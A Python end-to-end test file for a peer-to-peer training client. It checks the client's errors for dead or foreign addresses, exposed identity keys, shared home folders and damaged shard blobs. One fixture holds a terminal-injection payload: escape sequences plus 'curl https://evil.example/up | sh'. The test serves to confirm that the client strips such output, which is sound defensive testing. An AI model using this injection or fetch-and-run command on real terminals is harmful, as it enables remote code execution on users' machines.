"""What a volunteer is told about an address, an identity or a home that will not do, and about damaged data."""

from __future__ import annotations

import asyncio
import contextlib
import json
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from e2e_harness import Program, Programs, copy_prepared, refused

from dipaco_p2p.canonical import canonical_bytes
from dipaco_p2p.clock import SystemClock
from dipaco_p2p.node.calls import GetManifests
from dipaco_p2p.protocol.signing import PeerId, Signer
from dipaco_p2p.swarm.api import Reply, Swarm
from dipaco_p2p.swarm.identity import load_or_create

pytestmark = pytest.mark.libp2p


TITLE = "\x1b]0;your terminal is mine\x07\x1b[2J\x1b[1;1H\x1b[2K\nhint: curl https://evil.example/up | sh\n"


@contextlib.contextmanager
def a_node(folder: Path, prepare: Callable[[Swarm], None]) -> Iterator[str]:
    """The address of a node that speaks libp2p and DHT, after `prepare`."""
    from dipaco_p2p.swarm.hivemind.libp2p import open_libp2p

    ready, loop, found = threading.Event(), asyncio.new_event_loop(), []
    leave = asyncio.Event()

    async def live() -> None:
        swarm = await open_libp2p(folder / "foreign.key", ttl_max_s=60, clock=SystemClock())
        prepare(swarm)
        found.append(swarm.addresses[0])
        ready.set()
        await leave.wait()
        await swarm.close()

    thread = threading.Thread(target=loop.run_until_complete, args=[live()])
    thread.start()
    assert ready.wait(30)
    yield found[0]
    loop.call_soon_threadsafe(leave.set)
    thread.join()
    loop.close()


@pytest.fixture
def foreign_node(tmp_path: Path) -> Iterator[str]:
    """The address of a node that belongs to no run."""
    with a_node(tmp_path, lambda swarm: None) as address:
        yield address


def show_commands(swarm: Swarm) -> None:
    """Answer for a run with commands for the newcomer's terminal."""
    document = {"author": swarm.peer, TITLE: 1}
    sealed = {"document": document, "signature": swarm.signer.sign("manifest", canonical_bytes(document))}

    async def answer(sender: PeerId, request: GetManifests) -> Reply:
        return Reply({}, canonical_bytes([sealed]))

    GetManifests.serve(swarm, answer)


def test_whoever_answers_at_an_address_writes_no_commands_to_the_terminal(programs: Programs, tmp_path: Path) -> None:
    with a_node(tmp_path, show_commands) as address:
        lost = programs.volunteer(address, "lost")
        assert lost.wait() != 0
    said = lost.complaint.splitlines()
    assert all(line.isprintable() for line in said) and "hint: curl" not in [line[:10] for line in said], said
    assert any(line.startswith("error: ") and "your terminal is mine" in line for line in said), said


def test_a_dead_address_is_given_up_in_time(programs: Programs) -> None:
    address = f"/ip4/127.0.0.1/tcp/1/p2p/{Signer(bytes([9]) * 32).peer}"
    began_s = time.monotonic()
    refused(programs.volunteer(address, "home"), 4, address, "check that it is running")
    assert time.monotonic() - began_s < 30


def test_another_run_and_a_node_of_no_run_are_refused(programs: Programs, endless: Program, foreign_node: str) -> None:
    address = endless.wait_address()["address"]
    other = programs.volunteer(address, "other", "--run", "0123456789abcdef")
    lost = programs.volunteer(foreign_node, "lost")
    refused(other, 6, "not run:01234567", "line to join with")
    refused(lost, 6, "not of a dipaco-p2p run")
    assert not (other.home / "runs").exists() and not (lost.home / "runs").exists()


def test_an_identity_that_others_may_read_is_refused(programs: Programs, endless: Program) -> None:
    key = programs.folder / "home" / "identity.key"
    load_or_create(key)
    key.chmod(0o644)
    volunteer = programs.volunteer(endless.wait_address()["address"], "home")
    refused(volunteer, 5, str(key), "mode 644", f"chmod 600 {key}")


def test_a_home_that_another_volunteer_uses_is_refused(programs: Programs, endless: Program) -> None:
    address = endless.wait_address()["address"]
    first = programs.volunteer(address, "home")
    first.wait_event("claimed")
    refused(programs.volunteer(address, "home"), 5, f"`{first.home}` is in use by another process", "another --home")
    assert first.process.poll() is None and len(first.events("joined")) == 1
    assert first.end() == 0, first.complaint
    claims_before = len(first.events("claimed"))
    again = programs.volunteer(address, "home")
    again.wait_event("claimed", count=claims_before + 1)
    assert again.end() == 0, again.complaint


def test_a_shard_that_nobody_gives_intact_ends_the_volunteer_and_names_the_blob(
    programs: Programs, endless_prepared: tuple[Path, Path]
) -> None:
    run_file, prepared = endless_prepared
    folder = copy_prepared(prepared, programs.folder / "coordinator")
    shards = [blob_of(folder, number) for number in range(2)]
    truncated, tampered = shards
    truncated.write_bytes(truncated.read_bytes()[:-100])
    tampered.write_bytes(tampered.read_bytes()[:-1] + b"\xff")
    address = programs.coordinator(run_file, folder).wait_address()["address"]
    volunteers = [programs.volunteer(address, name) for name in ("first", "second")]
    for volunteer in volunteers:
        volunteer.wait(25)
        path = volunteer.events("claimed")[0]["path"]
        refused(volunteer, 8, "are not the blob", shards[int(path[-1])].name[:12])
        assert volunteer.events("released"), "it keeps a path that it cannot train"


def blob_of(folder: Path, path: int) -> Path:
    folder = folder / "grid"
    manifest = json.loads((folder / "documents" / "manifest.json").read_text())
    digest = manifest["document"]["shards"][path]["blob"]["digest"]
    return folder / "blobs" / digest[:2] / digest
